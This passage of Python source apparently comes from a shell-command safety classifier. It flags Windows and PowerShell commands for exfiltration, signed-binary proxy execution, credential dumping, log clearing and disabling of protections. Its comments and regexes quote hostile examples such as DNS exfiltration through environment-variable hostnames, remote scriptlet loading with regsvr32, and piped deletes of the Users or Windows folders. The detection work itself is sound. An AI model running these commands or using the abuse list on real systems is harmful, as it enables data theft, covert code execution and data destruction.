    `gc -Path f -Raw`, `cat f`, `[IO.File]::ReadAllText('f')`), or None (a listing such as
    `Get-ChildItem` sends names, not what the files hold). Cheap exit: no reader word."""
    low = text.lower()
    if not any(k in low for k in ("content", "gc ", "cat ", "type ", "import-", "::read")):
        return None
    for m in _PS_READER.finditer(text[:4000]):
        toks = re.split(r"[|;)}]", text[m.end() : m.end() + 400], maxsplit=1)[0].split()
        i = 0
        while i < len(toks):
            t = toks[i].lower()
            if t.startswith("-"):
                if t in _READ_PATH and i + 1 < len(toks):
                    return _local_read(toks[i + 1])
                i += 2 if t in _READ_VALUED else 1
                continue
            return _local_read(toks[i])
    net = _PS_FILE_READ.search(text[:4000])
    return _local_read(net.group(1)) if net is not None else None


def _local_read(token: str) -> str | None:
    t = token.strip("'\"(),")
    if not t or _UNC.match(t) or "://" in t or t.lower() in ("$null", "nul", "con"):
        return None
    return t


def _local_source(cmd: Cmd, text: str) -> bool:
    """A copy's source that is on this machine: not another machine's share (nor relative
    to one: `pushd \\\\host\\share`), not a URL, not a device (`nul`, `con`)."""
    t = text.strip("'\"")
    return bool(t) and not (
        _UNC.match(t)
        or "://" in t
        or t.lower() in ("nul", "con", "nul:", "con:", "$null")
        or _share_cwd(cmd, t)
    )


# A home folder's own stores beside the personal folders: recent items, browser profiles.
_HOME_STORE = re.compile(
    r"(?i)\A~/appdata/(?:roaming|local)/(?:microsoft/windows/recent|microsoft/outlook"
    r"|google/chrome|mozilla|microsoft/edge|bravesoftware)(?:/|\Z)"
)


def _personal_source(text: str) -> bool:
    """A source that is a home folder, a personal folder in it (Documents, Desktop …) or
    one of its stores (recent items, browser profiles), in any spelling of the home:
    `$env:USERPROFILE`, `$HOME`, `~`, `C:\\Users\\<name>`, `$env:APPDATA`."""
    from aintern_ls.safety.network import sensitive_source

    t = text.strip("'\"").replace("\\", "/")
    head = re.match(r"(?i)\A(\$env:\w+|\$home|\$\{env:\w+\})", t)
    if head is not None:
        known = PS_KNOWN_VARS.get(head.group(1).lower().replace("${", "$").rstrip("}"))
        if known is None:
            return False
        t = known.replace("\\", "/") + t[head.end() :]
    t = re.sub(r"(?i)\A[a-z]:/users/(?!public(?:/|\Z))[^/*?]+", "~", t)
    t = re.sub(r"/\*?\Z", "", t) or t
    return bool(sensitive_source(t) or _HOME_STORE.match(t) or re.fullmatch(r"(?i)[a-z]:/users", t))


_FORM_FILE = re.compile(
    r"(?i)\b(?:get-item|gi|get-childitem|gci|ls|dir)\b|\[(?:system\.)?io\.fileinfo\]"
    r"|::(?:readall\w+|openread)\s*\("
)


def _invoke_webrequest(cmd: Cmd) -> None:
    params, _ = _ps_params(cmd)
    if "form" in params:
        raw = cmd.scope.source[max(cmd.start, 0) : max(cmd.end, 0)]
        if _FORM_FILE.search(raw) or is_secret(raw):
            # `-Form @{f = Get-Item FILE}`: a multipart upload of a file read from disk
            cmd.add(C, "exfiltration", f"{cmd.name} uploads a file read from disk (-Form)")
            return
    method = (params.get("method") or Word("", 0, 0)).text.lower()
    if method in ("post", "put", "patch") and cmd.stdin.kind in ("file", "other"):
        # Pipeline input becomes the request body.
        cmd.add(C, "exfiltration", f"{cmd.name} sends a command's output or a file to the network")
        return
    if method == "delete":
        from aintern_ls.safety.network import http_delete

        http_delete(cmd, params.get("method") or Word("", cmd.start, cmd.end))
    HANDLERS["curl"](cmd)


# `Resolve-DnsName "$env:USERNAME.$env:COMPUTERNAME.x.example.com"`: environment values put
# in front of someone's domain reach that domain's name server (DNS exfiltration).
# (An internal suffix, `$env:COMPUTERNAME.corp.local`, is the machine's own name.)
_ENV_IN_HOST = re.compile(
    r"(?i)\$\{?env:\w+\}?[^\s'\"]*\.[\w-]+"
    r"\.(?!(?:local|lan|internal|intranet|localdomain|home|corp|ad)\b)[a-z]{2,}\b"
)


def _misc_windows_safe(cmd: Cmd) -> None:
    from aintern_ls.safety.network import dns_exfiltration

    if dns_exfiltration(cmd):
        return
    if (
        (
            cmd.name in ("resolve-dnsname", "test-netconnection")
            and any(
                "$(" in w.text
                or (
                    w.dynamic
                    and _ENV_IN_HOST.search(cmd.scope.source[max(w.start, 0) : max(w.end, 0)])
                )
                # `-Name ("{0}.x" -f [Convert]::ToBase64String([IO.File]::ReadAllBytes(…)))`:
                # a name built from a file's bytes carries the file out in DNS queries.
                or (
                    w.dynamic
                    and _READS_FILE.search(cmd.scope.source[max(w.start, 0) : max(w.end, 0)])
                )
                for w in cmd.args
            )
        )
        or (
            cmd.name in ("nslookup", "ping", "ping6", "tracert", "pathping")
            and any(w.dynamic and w.origin == "command" for w in cmd.args)
        )
    ):
        cmd.add(C, "exfiltration", f"{cmd.name} puts a command's output in a DNS name")
        return
    # (h19) `Resolve-DnsName example.com`: a DNS query of a literal name is read-only, like
    # nslookup, dig and host (safe): one convention for every shell's resolver (round 11's
    # moderate is superseded; names built from run-time values stay exfiltration above)
    if cmd.name == "echo" and cmd.args and not any(w.dynamic for w in cmd.args):
        # cmd `echo clean | diskpart`: what echo prints is known and feeds the next stage.
        cmd.info.output = " ".join(w.text for w in cmd.args)
    if (
        cmd.name == "set"
        and cmd.args
        and cmd.args[0].text.lower().startswith("/p")
        and not any(w.dynamic for w in cmd.args)
    ):
        # `set /p=rd /s /q C:\Users<nul | cmd`: the prompt is printed (echo without a newline)
        line = " ".join(w.text for w in cmd.args)
        prompt = line.split("=", 1)[1] if "=" in line else ""
        if prompt.strip():
            cmd.info.output = prompt.strip().strip('"')


_READS_FILE = re.compile(
    r"(?i)\[(?:system\.)?io\.file\]::readall|\b(?:get-content|gc)\b|\bcat\s|\btype\s"
    r"|::tobase64string\s*\(\s*\[(?:system\.)?io\.file\]"
)


def _ipconfig(cmd: Cmd) -> None:
    if any(w.text.lower() in ("/release", "/renew", "/flushdns", "/registerdns") for w in cmd.args):
        cmd.add(M, "network", "ipconfig changes network settings")


_RUNDLL_LAUNCH = re.compile(
    r"(?i)\A[^,]*(shell32|zipfldr|url|advpack|ieadvpack|pcwutl|ieframe|shdocvw)(\.dll)?\s*,\s*"
    r"#?(shellexec_rundll|routethecall|fileprotocolhandler|launchapplication|registerocx"
    r"|openurl|launchinfsection)\w*\Z"
)
# WScript.Shell `.Run "…"` / `.Run('…')` / `.Exec("…")` (VBScript doubles quotes inside a
# quoted cmd argument: `Run ""cmd /c …""`), and Shell.Application `ShellExecute("cmd", "/c …")`.
_SCRIPT_RUN = re.compile(
    r"(?i)\.(?:run|exec)\s*\(?\s*(?:\"\"(.+?)\"\"(?!\")|\"((?:[^\"]|\"\")+)\"|'([^']+)')"
    r"|shellexecute\s*\(?\s*[\"']{1,2}([^\"']+)[\"']{1,2}\s*,\s*[\"']{1,2}([^\"']*)[\"']{1,2}"
)


# Scripting.FileSystemObject `.DeleteFolder "C:\\x", True` / `.DeleteFile(…)` and VB's
# `[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory('C:\\x', 'DeleteAllContents')`.
FSO_DELETE = re.compile(
    r"(?i)\.delete(folder|file)\s*\(?\s*(?:\"\"|\"|')([^\"']+)(?:\"\"|\"|')"
    r"|fileio\.filesystem\]::delete(directory|file)\s*\(\s*(?:['\"]([^'\"]+)['\"]"
    r"|(\$\{?[\w:()]+\}?)"
    # `DeleteDirectory([Environment]::GetFolderPath('UserProfile'), …)`: a known folder
    r"|(\[(?:system\.)?environment\]::getfolderpath\s*\([^()]{0,80}\)))"
)


def fso_deletes(text: str) -> list[tuple[str, bool, int, int]]:
    """(path, is a folder, start, end) of every literal FileSystemObject-style delete."""
    out: list[tuple[str, bool, int, int]] = []
    for m in FSO_DELETE.finditer(text):
        kind = (m.group(1) or m.group(3) or "").lower()
        path = m.group(2) or m.group(4) or m.group(5) or m.group(6) or ""
        out.append((path, kind in ("folder", "directory"), m.start(), m.end()))
    return out


# Folders malware drops files in: shares, temp, public, downloads, AppData, ProgramData.
_DROP_FOLDER = re.compile(
    r"(?i)\A(?:\\\\|%te?mp%|\$env:te?mp)|\\(?:temp|tmp|users\\public|downloads"
    r"|appdata|programdata|windows\\tasks|perflogs)\\"
)


# A WMI object named by moniker or picked by a WQL query, and a `.Delete`/`.Delete_` call
_SCRIPT_WMI_DELETE = re.compile(
    r"(?is)(?:(win32_\w+)\.name\s*=\s*\\?['\"]{1,2}([\w$.-]+)"
    r"|from\s+(win32_\w+)\s+where\s+name\s*=\s*\\?['\"]{1,2}([\w$.-]+))"
    r"(?=.{0,600}?\.delete_?\b)"
)
_SCRIPT_TOOLS = {"winrm.vbs": "winrm", "manage-bde.wsf": "manage-bde", "slmgr.vbs": "slmgr"}


# Signed helper scripts that ship with Windows and run what they are given (LOLBAS script
# proxies, safety-m9): run through cscript/wscript they are judged as the helper itself.
_SCRIPT_PROXIES = frozenset({"pubprn.vbs"})


def _diag_proxy(cmd: Cmd) -> None:
    """Functions of Windows' signed troubleshooting scripts that start a process (LOLBAS):
    `. CL_Invocation.ps1; SyncInvoke PROG ARGS`, `. CL_Mutexverifiers.ps1;
    runAfterCancelProcess "PROG ARGS"`: critical (proxy execution), and the command line they
    start is judged (blocked when it is). `LoadAssemblyFromPath` (CL_LoadAssembly.ps1) and
    `RegSnapin` (UtilityFunctions.ps1) load a DLL into the signed host."""
    args = [w for w in cmd.args if w.text]
    if cmd.name in ("loadassemblyfrompath", "regsnapin"):
        cmd.add(C, "lolbin-exec", f"{cmd.name} loads an assembly through a signed Windows script")
        return
    cmd.add(C, "lolbin-exec", f"{cmd.name} starts a process through a signed Windows script")
    if not args or any(w.dynamic for w in args):
        return
    # one argument is a whole command line; with more, the first is the program (quoted
    # when its path holds blanks: `SyncInvoke "C:\Program Files\x.exe" /y`)
    line = " ".join(
        f'"{w.text}"' if " " in w.text and i == 0 and len(args) > 1 else w.text
        for i, w in enumerate(args)
    )
    where = Word(line, args[0].start, args[-1].end)
    cmd.scope.include(cmd.scope.nested(line, "cmd", where, -1))


def _pubprn(cmd: Cmd) -> None:
    """`pubprn.vbs HOST script:URL`: the printer-publishing script loads a scriptlet from the
    moniker it is given (LOLBAS): from the network it is remote code."""
    for w in cmd.args:
        if w.text.lower().startswith("script:"):
            target = w.text[7:]
            if _REMOTE_ARG.match(target):
                cmd.add(C, "remote-code", "pubprn.vbs runs a scriptlet from the network", w)
            else:
                cmd.add(C, "lolbin-exec", "pubprn.vbs runs a scriptlet (script proxy)", w)
            return
    cmd.add(M, "system-config", "pubprn.vbs publishes printers")


def _mshta(cmd: Cmd) -> None:
    script = next((w for w in cmd.args if not w.text.startswith(("/", "-"))), None)
    if (
        cmd.name in ("cscript", "wscript")
        and script is not None
        and script.text.replace("\\", "/").rsplit("/", 1)[-1].lower() in _SCRIPT_PROXIES
        and script.text.replace("\\", "/").rsplit("/", 1)[-1].lower()
        != "syncappvpublishingserver.vbs"
    ):
        base = script.text.replace("\\", "/").rsplit("/", 1)[-1]
        script_args = [w for w in cmd.args if w is not script and not w.text.startswith("//")]
        cmd.judge([Word(base, script.start, script.end), *script_args], cmd.stdin)
        return
    if (
        cmd.name in ("cscript", "wscript")
        and script is not None
        and script.text.replace("\\", "/").rsplit("/", 1)[-1].lower()
        == "syncappvpublishingserver.vbs"
    ):
        # The App-V helper script hands its argument to PowerShell (LOLBAS): judge that code.
        vbs_args = [w for w in cmd.args if w is not script and not w.text.startswith("//")]
        text = " ".join(w.text for w in vbs_args)
        code = text.split(";", 1)[1] if ";" in text else text
        _app_v_code(cmd, code, "SyncAppvPublishingServer.vbs")
        cmd.scope.include(cmd.scope.nested(code, "powershell", Word(code, cmd.start, cmd.end), -1))
        return
    base = script.text.replace("\\", "/").rsplit("/", 1)[-1].lower() if script else ""
    if cmd.name in ("cscript", "wscript") and script is not None and base in _SCRIPT_TOOLS:
        # `cscript winrm.vbs invoke Create …`, `cscript manage-bde.wsf -off C:`: Windows' own
        # script behind a tool is that tool, with the script's arguments.
        given = [w for w in cmd.args if w is not script and not w.text.startswith("//")]
        tail = " ".join(f'"{w.text}"' if " " in w.text else w.text for w in given)
        if given and 0 <= script.end <= given[0].start and given[-1].end <= len(cmd.scope.source):
            tail = cmd.scope.source[given[0].start : given[-1].end]  # (as written: its quotes)
        line = f"{_SCRIPT_TOOLS[base]} {tail}".strip()
        cmd.scope.include(cmd.scope.nested(line, "cmd", Word(line, cmd.start, cmd.end), -1))
        return
    src = cmd.scope.source
    eol = src.find("\n", cmd.start)
    text = src[cmd.start : eol if eol >= 0 else len(src)]  # cmd splits script code at ( )
    if cmd.name in ("cscript", "wscript") and cmd.scope.written:
        # (n14w) `echo CreateObject("Scripting.FileSystemObject").DeleteFolder "C:\Windows" >
        # x.vbs & cscript x.vbs`: the script this block wrote is judged as its code
        script_file = next((w for w in cmd.args if w.text[:1] not in "/-"), None)
        body = written_code(cmd.scope, script_file.text) if script_file is not None else None
        if body:
            text = text + "\n" + body[:20000]
    for path, folder, _, _ in fso_deletes(text):
        line = f'rd /s /q "{path}"' if folder else f'del /f /q "{path}"'
        cmd.scope.include(cmd.scope.nested(line, "cmd", Word(line, cmd.start, cmd.end), -1))
    if "winmgmts" in text.lower() and (picked := _SCRIPT_WMI_DELETE.search(text)) is not None:
        # (n17w) VBScript/JScript WMI: `GetObject("winmgmts:Win32_Service.Name='RpcSs'")
        # .Delete_`, `ExecQuery("… from Win32_Service where Name='RpcSs'")` then `.Delete`:
        # judged as the same instance's Delete through the CIM cmdlets
        cls, name = picked.group(1) or picked.group(3), picked.group(2) or picked.group(4)
        line = (
            f"Get-CimInstance {cls} -Filter \"Name='{name}'\" | Invoke-CimMethod -MethodName Delete"
        )
        found = cmd.scope.nested(line, "powershell", Word(line, cmd.start, cmd.end), -1)
        cmd.scope.include([f for f in found if f.level > M])
    for m in _SCRIPT_RUN.finditer(text):
        if m.group(4):
            line = f"{m.group(4)} {m.group(5) or ''}".strip()
        else:
            line = (m.group(1) or m.group(2) or m.group(3) or "").replace('""', '"')
        cmd.scope.include(cmd.scope.nested(line, "cmd", Word(line, cmd.start, cmd.end), -1))
    if cmd.name == "rundll32" and cmd.args:
        first = cmd.args[0].text
        parts = first.split(None, 1)
        entry = parts[0] if "," in parts[0] else first
        rest = [w.text for w in cmd.args[1:]]
        if "," not in entry and len(cmd.args) > 1:
            # cmd splits `shell32.dll,ShellExec_RunDLL` at the comma
            entry = first + "," + cmd.args[1].text.lstrip(",")
            rest = rest[1:]
        if (
            rest
            and _CONTROL_RUNDLL.match(entry)
            and _system_applet(rest[0])
            and rest[0].strip("\"'").split(",", 1)[0].lower()
            not in {
                d.lower() for d in (*cmd.scope.downloaded, *cmd.scope.unseen, *cmd.scope.written)
            }
        ):
            # (w22, blind19) `rundll32 shell32.dll,Control_RunDLL desk.cpl`: Windows' own
            # Control Panel applet by its bare name (it opens a settings window): moderate,
            # as `control desk.cpl`; an applet from a path or a share stays proxy execution
            cmd.add(M, "system-config", "rundll32 opens a Control Panel applet")
            return
        if _RUNDLL_LAUNCH.match(entry) and rest:
            line = " ".join(rest)
            target = rest[0].strip("\"'")
            if (
                re.match(r"(?i)url\.dll,(?:FileProtocolHandler|OpenURL)", entry)
                and not re.match(r"(?i)\A(?:[a-z][\w+.-]++:|\\\\|//)", target)
                # a script file opens in a script host (mshta, wscript): proxy execution
                and not re.search(
                    r"(?i)\.(?:hta|vbs|vbe|js|jse|wsf|wsh|sct|ps1|bat|cmd|lnk|url|scr|cpl|dll|inf"
                    r"|msi|msc|jar|py)\Z",
                    target,
                )
                and not runs_unseen(cmd, Word(target, cmd.start, cmd.end))
                and target.replace("\\", "/").rsplit("/", 1)[-1].lower()
                not in {d.lower() for d in cmd.scope.downloaded}
            ):
                # `rundll32 url.dll,FileProtocolHandler C:\tools\app.exe`: the file is opened
                # with its handler, as `start` would: running a local program (moderate);
                # what it is told to run is judged as usual.
                cmd.add(M, "local-script", "rundll32 url.dll opens a local file or program")
                cmd.scope.include(cmd.scope.nested(line, "cmd", Word(line, cmd.start, cmd.end), -1))
                return
            cmd.add(C, "lolbin-exec", "rundll32 launches a program through a system DLL")
            cmd.scope.include(cmd.scope.nested(line, "cmd", Word(line, cmd.start, cmd.end), -1))
            return
    if any(
        re.search(r"https?:|javascript:|vbscript:|/i:\S*(https?|ftp):", w.text, re.I)
        or re.match(r"\A[\"']?(?:\\\\|//)[^\\/\s]+[\\/]", w.text)
        # (n14w) a scriptlet on another machine's share: `regsvr32 /i:\\h\s\x.sct scrobj.dll`
        or re.match(r"(?i)\A[/-]i:[\"']?(?:\\\\|//)[^\\/\s]+[\\/]", w.text)
        for w in cmd.args
    ):
        # a URL, inline script, or a script on another machine's share (`\\h\s\x.vbs`)
        cmd.add(C, "remote-code", f"{cmd.name} runs remote or inline script code")
    elif any(
        w.text.replace("\\", "/").rsplit("/", 1)[-1].split(",", 1)[0].lower()
        in {d.lower() for d in cmd.scope.downloaded}
        for w in cmd.args
    ):
        cmd.add(C, "download-exec", f"{cmd.name} runs a file that was just downloaded")
    elif any(runs_unseen(cmd, w) for w in cmd.args if not w.text.startswith(("/", "-"))):
        pass  # unpacked from a download (`wscript %TEMP%\\drv\\run.vbs`)
    elif cmd.name in ("mshta", "rundll32"):
        cmd.add(C, "lolbin-exec", f"{cmd.name} runs code through a Windows system binary")
    else:
        cmd.add(M, "local-script", f"{cmd.name} runs a script")


def _disable_security_logs(cmd: Cmd) -> None:
    cmd.add(C, "clear-logs", "clears Windows event logs (destroys audit trail)")


def _disable_security(cmd: Cmd) -> None:
    if cmd.name == "disable-computerrestore":
        # Restore points turned off: critical, like every backup switch-off (the session-12
        # and session-13 conventions; deleting existing restore points is blocked).
        cmd.add(C, "backup-off", "turns System Restore off (no restore points from now on)")
        return
    cmd.add(C, "disable-security", f"{cmd.name} turns off a system protection")


def _wevtutil(cmd: Cmd) -> None:
    if cmd.args and cmd.args[0].text.lower() in ("cl", "clear-log"):
        cmd.add(C, "clear-logs", "clears Windows event logs (destroys audit trail)")
    elif (
        cmd.args
        and cmd.args[0].text.lower() in ("sl", "set-log")
        and re.search(r"(?i)/e(nabled)?:(false|0)\b", " ".join(cmd.texts()))
    ):
        cmd.add(C, "clear-logs", "turns an event log off (no audit trail from now on)")
    elif cmd.args and cmd.args[0].text.lower() in ("qe", "el", "gl", "gli", "query-events"):
        return
    else:
        cmd.add(M, "system-config", "wevtutil changes event log settings")


# --- more LOLBAS binaries (lolbas-project.github.io): each by what its documented abuse does ---
# Signed binaries that load a DLL, an assembly or a compiled pipeline from a path they are
# given, or inject into another process: proxy execution (critical).
_CODE_LOADERS = {
    "certoc": r"-loaddll",
    "rasautou": r"-d",
    "ttdinject": r"/launch|-launch",
    "addinutil": r"-addinroot|-pipelineroot",
    "aspnet_compiler": r"-p|-v",
    "extexport": r"",
    "microsoft.workflow.compiler": r"",
    "ie4uinit": r"-basesettings",
    "wlrmdr": r"-u",
    "verclsid": r"/c",
    "offlinescannershell": r"",
    "customshellhost": r"",
    "runexehelper": r"",
}
# Signed binaries that download a URL to disk (LOLBAS "download").
_URL_FETCHERS = frozenset(
    names(
        """
        appinstaller gfxdownloadwrapper imewdbld ngen datasvcutil printbrm
        onedrivestandaloneupdater
        """
    )
)
# Memory or credential-store dumps: process memory (lsass), the AD database, the SAM hive.


def _lolbas_more(cmd: Cmd) -> None:
    n = cmd.name
    texts = [w.text.lower() for w in cmd.args]
    joined = " ".join(texts)
    if n in _CODE_LOADERS:
        flag = _CODE_LOADERS[n]
        if not flag or any(re.fullmatch(rf"(?:{flag})(?::.*)?", t) for t in texts):
            if n in ("ttdinject", "wlrmdr", "runexehelper"):
                inner = _flag_value(cmd, "/launch") or _flag_value(cmd, "-u") or ""
                if n == "runexehelper":
                    inner = " ".join(w.text for w in cmd.args)
                if inner:
                    cmd.scope.include(
                        cmd.scope.nested(inner, "cmd", Word(inner, cmd.start, cmd.end), -1)
                    )
            cmd.add(C, "lolbin-exec", f"{n} loads and runs code through a signed Windows binary")
            return
        cmd.add(M, "runs-program", f"{n} runs")
        return
    if n in _URL_FETCHERS:
        if any(re.search(r"(?:https?|ftp)://|\\\\[^\\]+\\", t) for t in texts) or n in (
            "printbrm",
            "onedrivestandaloneupdater",
        ):
            cmd.add(C, "lolbin-download", f"{n} fetches files with a signed Windows binary")
            return
        cmd.add(M, "build" if n == "ngen" else "runs-program", f"{n} runs")
        return
    if n == "rdrleakdiag" or (n == "tttracer" and "-dumpfull" in texts):
        if any(t in ("/fullmemdmp", "/memdmp", "-dumpfull") for t in texts):
            cmd.add(C, "credential-dump", f"{n} dumps a process's memory (lsass: passwords)")
            return
        cmd.add(M, "runs-program", f"{n} collects diagnostics")
        return
    if n == "esentutl":
        if texts and texts[0].lower() in ("/mh", "/mk", "/ml", "/mm", "/ms", "/mu", "/k", "/g"):
            return  # header, checksum and integrity dumps only read the database
        low_texts = [t.lower() for t in texts]
        if "/d" in low_texts and low_texts.index("/d") + 1 < len(texts):
            # `esentutl /y SRC /d C:\Windows\System32\config\SYSTEM /o`: /d names the copy;
            # a hive or a boot file there is replaced (blocked), not read.
            out = texts[low_texts.index("/d") + 1]
            src = texts[low_texts.index("/y") + 1] if "/y" in low_texts[:-1] else ""
            hit = copy_destination(out, [src] if src else [], cmd)
            if hit is not None and hit[0] >= C:
                cmd.add(hit[0], hit[1], f"esentutl copies over {hit[2]}")
                return
        if CREDENTIAL_WINDOWS.search(joined):
            cmd.add(C, "credential-dump", "esentutl copies the AD database or a registry hive")
            return
        _lolbin_fetch(cmd)
        return
    if n == "rpcping" and re.search(r"/u\s+ntlm|-u\s+ntlm", joined):
        cmd.add(C, "exfiltration", "rpcping sends this user's NTLM hash to another machine")
        return
    if n == "psr":
        if "/start" in texts:
            cmd.add(C, "screen-capture", "psr records the screen and keystrokes to a file")
            return
        cmd.add(M, "runs-program", "psr controls the steps recorder")
        return
    if n == "pnputil":
        if any(t in ("-i", "/install", "/add-driver", "-a") for t in texts):
            cmd.add(C, "kernel", "pnputil installs a driver (code that runs in the kernel)")
            return
        if any(t.startswith(("/enum", "-e")) for t in texts):
            return
        cmd.add(M, "system-config", "pnputil changes drivers")
        return
    if n == "nltest":
        if any(
            t.startswith(("/sc_reset", "/sc_change_pwd", "/dbflag", "/shutdown")) for t in texts
        ):
            cmd.add(M, "system-config", "nltest changes the domain secure channel")
        return  # queries: trusts, domain controllers, sites
    if n == "msbuild":
        project = [w.text.lower() for w in cmd.args if not w.text.startswith(("/", "-"))]
        inline_tasks_run(cmd)  # (n13w) a project this text wrote, with inline C#/VB tasks
        if any(
            not p.endswith(
                (
                    ".sln",
                    ".csproj",
                    ".vbproj",
                    ".fsproj",
                    ".vcxproj",
                    ".proj",
                    ".targets",
                    ".props",
                    ".slnf",
                )
            )
            for p in project
        ):
            cmd.add(C, "lolbin-exec", "msbuild runs inline tasks from a file that is not a project")
            return
        if any(_DROP_FOLDER.search(p.replace("/", "\\")) for p in project):
            # a project in a share, a temp/public/download folder: dropped there, its inline
            # tasks are code nobody here has read (opaque execution, safety-m7)
            cmd.add(C, "lolbin-exec", "msbuild runs a project dropped in a shared or temp folder")
            return
        cmd.add(M, "build", "msbuild builds a project")
        return
    if n in _BROWSERS:
        for w in cmd.args:
            m = _LAUNCHER_OPT.match(w.text)
            if m:
                code = m.group(2).strip('"')
                found = cmd.scope.nested(code, "cmd", Word(code, w.start, w.end), -1)
                cmd.scope.include(found)
                cmd.add(C, "config-exec", f"{n} {m.group(1)} starts another program", w)
                return
        if any(t.startswith("--dump-dom") for t in texts) and any("://" in t for t in texts):
            cmd.add(M, "network", f"{n} downloads a page")
            return
        cmd.add(M, "runs-program", f"{n} opens a browser")
        return
    cmd.add(M, "runs-program", f"{n} runs")


_BROWSERS = frozenset(
    names("msedge msedge_proxy msedgewebview2 chrome chromium chromium-browser brave teams")
)
_LAUNCHER_OPT = re.compile(
    r"(?i)\A--(gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix|browser-subprocess-path"
    r"|plugin-launcher|ppapi-plugin-launcher|gpu-cmd-prefix)=(.+)\Z"
)
# `file.txt:payload.exe`: an NTFS alternate data stream, where payloads hide from listings.
_STREAM_NAME = re.compile(r"[\w.$-]{1,100}")
_STREAM_HOST = re.compile(r"\.\w{1,8}")


def alternate_stream(text: str) -> bool:
    """A path naming an NTFS alternate data stream (`C:\\ads\\file.txt:evil.exe`)."""
    t = text.strip('"')
    if len(t) > 400 or ":" not in t or "://" in t:
        return False
    t = re.sub(r"(?i)\A/[a-z]{1,20}:", "", t)  # `/D:C:\x.txt:s` (an option's value)
    t = re.sub(r"(?i)\A[a-z]:", "", t)  # the drive
    host, sep, stream = t.rpartition(":")
    if not sep or ":" in host or not host or any(c in host for c in '*?"<>|='):
        return False
    base = re.split(r"[\\/]", host)[-1]
    dot = base.rfind(".")
    if dot <= 0 or not _STREAM_HOST.fullmatch(base[dot:]):
        return False
    return bool(_STREAM_NAME.fullmatch(stream)) and stream.lower() != "$data"


def _register() -> None:
    """Add the Windows programs to the registry: cmd.exe built-ins and tools whose names
    clash with POSIX programs go to `WINDOWS_HANDLERS` (cmd and PowerShell fences only)."""
    table: dict[str, Handler] = {
        "remove-item": _remove_item,
        "get-childitem": _get_childitem,
        "invoke-expression": _invoke_expression,
        "start-process": _start_process,
        "start": _start,
        "forfiles": _forfiles,
        "copy": _copy_move,
        "move": _copy_move,
        "ren": _copy_move,
        "rename": _copy_move,
        "xcopy": _copy_move,
        "fsutil": _fsutil,
        "msiexec": _msiexec,
        "conhost": _runs_cmdline,
        "procdump": _procdump,
        "send-mailmessage": _send_mail,
        "procdump64": _procdump,
        "wt": _runs_cmdline,
        "pcalua": _runs_cmdline,
        "wsl": _runs_cmdline,
        "syncappvpublishingserver": _runs_cmdline,
        "scriptrunner": _runs_cmdline,
        "winrm": _winrm,
        "winrm.vbs": _winrm,
        "pubprn.vbs": _pubprn,
        "syncinvoke": _diag_proxy,
        "runaftercancelprocess": _diag_proxy,
        "loadassemblyfrompath": _diag_proxy,
        "regsnapin": _diag_proxy,
        "diskshadow": _diskshadow,
        "sdelete": _sdelete,
        "sdelete64": _sdelete,
        "new-scheduledtaskaction": _ps_payload,
        "new-service": _ps_payload,
        "invoke-wmimethod": _ps_payload,
        "invoke-cimmethod": _ps_payload,
        "set-alias": _ps_alias,
        "new-alias": _ps_alias,
        **{n: _lolbin_fetch for n in _FETCHERS},
        **{n: _proxy_exec_more for n in ("mavinject", "atbroker", "wuauclt", "control", "regedit")},
        **{n: _proxy_exec for n in _PROXY_EXEC},
        "set-executionpolicy": _set_execution_policy,
        "set-mppreference": _mp_preference,
        "add-mppreference": _mp_preference,
        "set-netfirewallprofile": _firewall,
        "new-netfirewallrule": _firewall,
        "netsh": _firewall,
        "powershell": _powershell_exe,
        "pwsh": _powershell_exe,
        "powershell_ise": _powershell_exe,
        "cmd": _cmd_exe,
        "del": _del,
        "erase": _del,
        "rd": _rd,
        "format": _format,
        "diskpart": _diskpart,
        "reg": _reg,
        "fltmc": _fltmc,
        "reagentc": _reagentc,
        "logman": _logman,
        "mofcomp": _mofcomp,
        "set-processmitigation": _process_mitigation,
        "restore-vmsnapshot": _danger_cmdlet,
        "restore-vmcheckpoint": _danger_cmdlet,
        **{n: _elevator for n in _ELEVATORS},
        "nircmd": _nircmd,
        "nircmdc": _nircmd,
        "elevate": _elevate_exe,
        "elevate64": _elevate_exe,
        "elevate32": _elevate_exe,
        "cpau": _cpau,
        "net1": _net,
        "regini": _regini,
        "bcdedit": _bcdedit,
        "bootsect": _boot_code,
        "bcdboot": _boot_code,
        "vssadmin": _vssadmin,
        "wmic": _wmic,
        "wbadmin": _wbadmin,
        "cipher": _cipher,
        "manage-bde": _manage_bde,
        "takeown": _takeown,
        "icacls": _takeown,
        "cacls": _takeown,
        "net": _net,
        "sc": _sc,
        "schtasks": _schtasks,
        "runas": _runas,
        "auditpol": _auditpol,
        "robocopy": _robocopy,
        "clear-content": _clear_content,
        "invoke-webrequest": _invoke_webrequest,
        "invoke-restmethod": _invoke_webrequest,
        "ipconfig": _ipconfig,
        "mshta": _mshta,
        "regsvr32": _mshta,
        "rundll32": _mshta,
        "wscript": _mshta,
        "cscript": _mshta,
        "wevtutil": _wevtutil,
        "disable-computerrestore": _disable_security,
        "new-psdrive": _new_psdrive,
        "remove-itemproperty": _remove_itemproperty,
        # (an emptied value or a key cleared of its values: as deleted, for protections)
        "clear-itemproperty": _remove_itemproperty,
        "clear-item": _remove_itemproperty,
        "disable-windowsoptionalfeature": _write_cmdlet,
        "set-wmiinstance": _write_cmdlet,
        "new-ciminstance": _write_cmdlet,
        "set-mpprefrence": _mp_preference,
        "uninstall-windowsdefender": _disable_security,
        "remove-windowsfeature": _danger_cmdlet,
        "clear-eventlog": _disable_security_logs,
        **{n: _lolbas_more for n in _CODE_LOADERS},
        **{n: _lolbas_more for n in _URL_FETCHERS},
        **{n: _lolbas_more for n in _BROWSERS},
        **{
            n: _lolbas_more
            for n in ("rdrleakdiag", "rpcping", "psr", "nltest", "msbuild", "pnputil", "esentutl")
        },
    }
    explicit = set(table)
    for name in names(
        """
        set-content add-content out-file new-item copy-item move-item rename-item set-item
        set-itemproperty new-itemproperty copy-itemproperty rename-itemproperty tee-object
        export-csv export-clixml expand-archive
        compress-archive install-module install-package update-module import-module
        new-alias set-alias new-psdrive start-job invoke-item invoke-command
        set-service start-service restart-service set-location-write new-service
        register-scheduledtask register-scheduledjob set-scheduledtask set-acl unblock-file
        set-date rename-computer set-timezone
        enable-psremoting new-netfirewallrule set-netipaddress xcopy copy move ren rename mkdir
        md mklink attrib setx timeout pause choice title color invoke-history
        export-alias new-object add-type out-printer set-psreadlineoption update-help save-help
        register-psrepository set-psrepository uninstall-module uninstall-package
        new-localgroup compact certreq pnputil dism sfc chkdsk defrag assoc ftype subst label
